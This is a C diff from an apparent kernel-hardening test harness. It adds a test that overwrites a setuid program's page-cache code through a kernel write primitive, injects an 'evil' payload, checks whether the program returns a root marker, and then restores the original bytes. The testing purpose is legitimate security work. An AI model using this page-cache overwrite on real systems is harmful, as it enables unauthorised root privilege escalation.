@@ -15,10 +15,9 @@
 
 #include "attack.h"
 #include "list.h"
+#include "setuid.h"
 
-#define PROGRAM		"/tmp/setuid-program"
-#define LOAD_ADDRESS	0x400000UL
-#define IS_ROOT		42
+#define PROGRAM		SETUID_PROGRAM
 
 #ifdef __x86_64__
 #define MACHINE		EM_X86_64
@@ -70,7 +69,7 @@ static void make_program(char *page, const void *code, size_t size)
 {
 	Elf64_Ehdr *header = (Elf64_Ehdr *)page;
 	Elf64_Phdr *segment = (Elf64_Phdr *)(header + 1);
-	size_t entry = sizeof(*header) + sizeof(*segment);
+	size_t entry = SETUID_ENTRY - LOAD_ADDRESS;
 
 	memset(page, 0, PAGE_SIZE);
 	memcpy(header->e_ident, ELFMAG "\2\1\1", SELFMAG + 3);
@@ -115,6 +114,17 @@ static const unsigned char says_its_name[] = {
 
 #endif
 
+void setuid_own_create(const char *name)
+{
+	create_program(name, evil, sizeof(evil));
+}
+
+const void *setuid_evil(size_t *size)
+{
+	*size = sizeof(evil);
+	return evil;
+}
+
 void setuid_program_create(void)
 {
 #ifdef __x86_64__
@@ -123,13 +133,13 @@ void setuid_program_create(void)
 	create_program(PROGRAM, innocent, sizeof(innocent));
 }
 
-static int run_program(void)
+int setuid_run(const char *name)
 {
 	int status;
 	pid_t pid = fork();
 
 	if (!pid) {
-		execl(PROGRAM, PROGRAM, (char *)NULL);
+		execl(name, name, (char *)NULL);
 		_exit(127);
 	}
 	waitpid(pid, &status, 0);
@@ -139,7 +149,7 @@ static int run_program(void)
 static enum outcome judge_program(int err)
 {
 	struct stat stat;
-	int status = run_program();
+	int status = setuid_run(PROGRAM);
 
 	lstat(PROGRAM, &stat);
 	if (status == IS_ROOT)
@@ -190,4 +200,24 @@ enum outcome setuid_page_cache(void)
 	if (kwalk((uint64_t)file, LEAF, 0, &slot))
 		return broken("no page-table entry found");
 	return judge_program(overwrite_page_cache(slot.phys));
+}
+
+/* Page tables and keys have nothing to do with it: the kernel's own mapping is writable. */
+enum outcome page_cache_store(void)
+{
+	volatile char *file = setuid_program_map(0);
+	char old[sizeof(evil)];
+	enum outcome outcome;
+	struct slot slot;
+	uint64_t entry;
+	int err;
+
+	if (!file || kwalk((uint64_t)file, LEAF, 0, &slot))
+		return broken("cannot map %s, or no page found", PROGRAM);
+	entry = slot.alias + (SETUID_ENTRY - LOAD_ADDRESS);
+	kread(entry, old, sizeof(old));
+	err = kwrite(entry, evil, sizeof(evil));
+	outcome = judge_program(err);
+	kwrite(entry, old, sizeof(old));
+	return outcome;
 }
